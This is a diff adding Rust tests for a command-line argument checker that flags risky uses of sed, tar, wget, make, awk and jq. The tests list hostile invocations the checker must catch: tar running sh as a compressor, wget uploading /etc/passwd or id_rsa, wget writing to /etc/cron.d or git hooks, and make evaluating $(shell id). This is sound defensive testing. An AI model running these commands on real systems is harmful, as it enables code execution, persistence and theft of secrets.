@@ -1,0 +1,231 @@
+//! Tests of the GNU tool specs (sed, tar, wget, make, awk, jq), named by the
+//! attack they stop or the everyday use they keep allowed.
+
+use std::path::Path;
+
+use super::check;
+use super::grammar::read;
+use super::lookup;
+
+const CWD: &str = "/work/project";
+
+fn ids(argv: &[&str]) -> Vec<&'static str> {
+    let (program, args) = argv.split_first().expect("argv");
+    let args: Vec<String> = args.iter().map(|s| (*s).to_owned()).collect();
+    check(program, &args, Path::new(CWD))
+        .expect("a spec'd program")
+        .iter()
+        .map(|h| h.id)
+        .collect()
+}
+
+#[test]
+fn everyday_use_of_gnu_tools_trips_nothing() {
+    for argv in [
+        &["sed", "-n", "1,5p", "f"][..],
+        &["sed", "-E", "s/a/b/g", "f"],
+        &["sed", "--sandbox", "-e", "p", "f"],
+        &["tar", "xzf", "a.tar.gz"],
+        &["tar", "-czf", "out.tgz", "src"],
+        &["tar", "tvf", "a.tar"],
+        &["tar", "-xf", "a.tar", "--strip-components=1"],
+        &["tar", "--exclude=target", "-cJf", "out.txz", "."],
+        &["wget", "-q", "https://example.com/x.tgz"],
+        &["wget", "-nv", "-c", "https://example.com/x.tgz"],
+        &["wget", "-O", "x.tgz", "https://example.com/x.tgz"],
+        &["wget", "-O-", "https://example.com/"],
+        &["make", "-j4", "test"],
+        &["make", "-j", "4", "test"],
+        &["make", "-s", "--no-print-directory", "all"],
+        &["make", "-C", "sub", "all"],
+        &["gawk", "-F:", "{print $1}", "/etc/passwd"],
+        &["awk", "-v", "n=3", "NR<n", "f"],
+        &["jq", "-r", ".name", "package.json"],
+        &["jq", "-n", "--arg", "x", "1", "$x"],
+        &["jq", "-rc", ".[]", "a.json"],
+    ] {
+        assert_eq!(ids(argv), Vec::<&str>::new(), "{argv:?}");
+    }
+}
+
+#[test]
+fn sed_script_file_and_unknown_options_are_read_by_the_spec() {
+    // `-f` only reads (the older `sed.script-file` guard asks about it);
+    // an option sed does not have is asked.
+    assert_eq!(ids(&["sed", "-f", "s.sed", "f"]), Vec::<&str>::new());
+    assert_eq!(
+        ids(&["sed", "--frobnicate", "p", "f"]),
+        ["sed.unknown-option"]
+    );
+    // `--s` is `--silent`, `--sandbox` or `--separate` to sed: asked.
+    assert_eq!(ids(&["sed", "--s", "p", "f"]), ["sed.unknown-option"]);
+}
+
+#[test]
+fn tar_abbreviated_to_command_runs_a_program() {
+    assert_eq!(
+        ids(&["tar", "--to-com=sh", "-xf", "a.tar"]),
+        ["tar.runs-program"]
+    );
+}
+
+#[test]
+fn tar_old_style_bundle_value_is_the_compressor_it_runs() {
+    // `xvIf sh a.tar`: `-I sh -f a.tar`, sh runs as the compressor.
+    assert_eq!(ids(&["tar", "xvIf", "sh", "a.tar"]), ["tar.runs-program"]);
+    let args: Vec<String> = ["xvIf", "sh", "a.tar"].map(String::from).to_vec();
+    let reading = read(lookup("tar").expect("tar"), &args);
+    let values: Vec<Option<&str>> = reading.uses.iter().map(|u| u.value).collect();
+    assert_eq!(values, [None, None, Some("sh"), Some("a.tar")]);
+    assert!(reading.operands.is_empty() && reading.problem.is_none());
+}
+
+#[test]
+fn tar_old_style_bundle_leaves_later_words_to_the_ordinary_reading() {
+    assert_eq!(
+        ids(&["tar", "xf", "a.tar", "--checkpoint-action=exec=sh"]),
+        ["tar.runs-program"]
+    );
+    assert_eq!(ids(&["tar", "cf", "a.tar", "src"]), Vec::<&str>::new());
+    // A letter tar does not have, or a value letter without its word.
+    assert_eq!(ids(&["tar", "xYf", "a.tar"]), ["tar.unknown-option"]);
+    assert_eq!(ids(&["tar", "xf"]), ["tar.unknown-option"]);
+}
+
+#[test]
+fn tar_programs_it_can_be_told_to_run_are_asked() {
+    for argv in [
+        &["tar", "-I", "sh -c id", "-xf", "a.tar"][..],
+        &["tar", "--use-compress=sh", "-xf", "a.tar"],
+        &[
+            "tar",
+            "-xf",
+            "a.tar",
+            "--checkpoint=1",
+            "--checkpoint-action=exec=id",
+        ],
+        &["tar", "-F", "./next.sh", "-xMf", "a.tar"],
+        &["tar", "--new-volume-script=x", "-xf", "a.tar"],
+        &["tar", "--rsh-command=/tmp/x", "-xf", "h:a.tar"],
+        &["tar", "--rmt=/tmp/x", "-xf", "h:a.tar"],
+    ] {
+        assert!(ids(argv).contains(&"tar.runs-program"), "{argv:?}");
+    }
+}
+
+#[test]
+fn tar_extracting_elsewhere_or_to_absolute_paths_is_asked() {
+    assert_eq!(
+        ids(&["tar", "-xf", "a.tar", "-C", "/etc"]),
+        ["tar.other-tree"]
+    );
+    assert_eq!(ids(&["tar", "xPf", "a.tar"]), ["tar.writes-file"]);
+    assert_eq!(
+        ids(&["tar", "-xf", "a.tar", "-C", "out"]),
+        Vec::<&str>::new()
+    );
+}
+
+#[test]
+fn wget_abbreviated_post_file_uploads() {
+    assert_eq!(
+        ids(&["wget", "--post-f=/etc/passwd", "https://example.com/"]),
+        ["wget.uploads"]
+    );
+    assert_eq!(
+        ids(&[
+            "wget",
+            "--body-file",
+            "id_rsa",
+            "--method=PUT",
+            "https://x/"
+        ]),
+        ["wget.uploads"]
+    );
+}
+
+#[test]
+fn wget_writes_outside_the_tree_and_config_and_askpass_are_asked() {
+    assert_eq!(
+        ids(&["wget", "-O", "/etc/cron.d/x", "https://x/"]),
+        ["wget.writes-file"]
+    );
+    assert_eq!(
+        ids(&["wget", "-P", "../elsewhere", "https://x/"]),
+        ["wget.writes-file"]
+    );
+    assert_eq!(
+        ids(&["wget", "-O", ".git/hooks/pre-commit", "https://x/"]),
+        ["wget.writes-file"]
+    );
+    assert_eq!(
+        ids(&["wget", "-e", "use_askpass=/tmp/x", "https://x/"]),
+        ["wget.sets-config"]
+    );
+    assert_eq!(
+        ids(&["wget", "--conf=/tmp/rc", "https://x/"]),
+        ["wget.sets-config"]
+    );
+    assert_eq!(
+        ids(&["wget", "--use-a=/tmp/x", "https://x/"]),
+        ["wget.runs-program"]
+    );
+}
+
+#[test]
+fn wget_hidden_options_keep_prefixes_as_ambiguous_as_wget_reads_them() {
+    // wget also has `--dns-cache` (the positive form of `--no-dns-cache`):
+    // `--dn` is ambiguous to wget, so it is asked, not read as
+    // `--dns-timeout`.
+    assert_eq!(
+        ids(&["wget", "--dn=3", "https://x/"]),
+        ["wget.unknown-option"]
+    );
+    // `-nv` is `-n` with the value `v`.
+    assert_eq!(ids(&["wget", "-nvc", "https://x/"]), Vec::<&str>::new());
+}
+
+#[test]
+fn make_abbreviated_eval_loads_code() {
+    assert_eq!(ids(&["make", "--ev=$(shell id)"]), ["make.loads-code"]);
+    assert_eq!(ids(&["make", "-E", "x:;id", "x"]), ["make.loads-code"]);
+    assert_eq!(ids(&["make", "-I", "/tmp/mk", "all"]), ["make.loads-code"]);
+    assert_eq!(ids(&["make", "-C", "/tmp/other"]), ["make.other-tree"]);
+    // `--j` is `--jobs`, `--just-print` or the jobserver's options: asked.
+    assert_eq!(ids(&["make", "--j"]), ["make.unknown-option"]);
+}
+
+#[test]
+fn awk_program_files_libraries_and_dumps_are_asked() {
+    assert_eq!(ids(&["gawk", "-f", "/tmp/p.awk", "f"]), ["awk.loads-code"]);
+    assert_eq!(ids(&["awk", "--lo=/tmp/x.so", "1"]), ["awk.loads-code"]);
+    assert_eq!(ids(&["awk", "-W", "exec", "/tmp/p"]), ["awk.loads-code"]);
+    assert_eq!(ids(&["gawk", "--profile=/etc/x", "1"]), ["awk.writes-file"]);
+    assert_eq!(ids(&["gawk", "-o", "1"]), ["awk.writes-file"]);
+}
+
+#[test]
+fn awk_options_end_at_the_program_text() {
+    // gawk does not permute: `-f` after the program is an operand.
+    assert_eq!(
+        ids(&["gawk", "{print}", "-f", "/tmp/x"]),
+        Vec::<&str>::new()
+    );
+}
+
+#[test]
+fn jq_module_search_path_loads_code() {
+    assert_eq!(ids(&["jq", "-L", "/tmp/mods", "."]), ["jq.loads-code"]);
+    assert_eq!(ids(&["jq", "-L/tmp/mods", "."]), ["jq.loads-code"]);
+    assert_eq!(ids(&["jq", ".", "f.json", "-L", "m"]), ["jq.loads-code"]);
+}
+
+#[test]
+fn jq_long_options_are_exact() {
+    // jq 1.6 refuses `--raw`: not read as `--raw-output` or `--raw-input`.
+    assert_eq!(ids(&["jq", "--raw", "."]), ["jq.unknown-option"]);
+    assert_eq!(
+        ids(&["jq", "--rawfile", "v", "f.txt", "."]),
+        Vec::<&str>::new()
+    );
+}
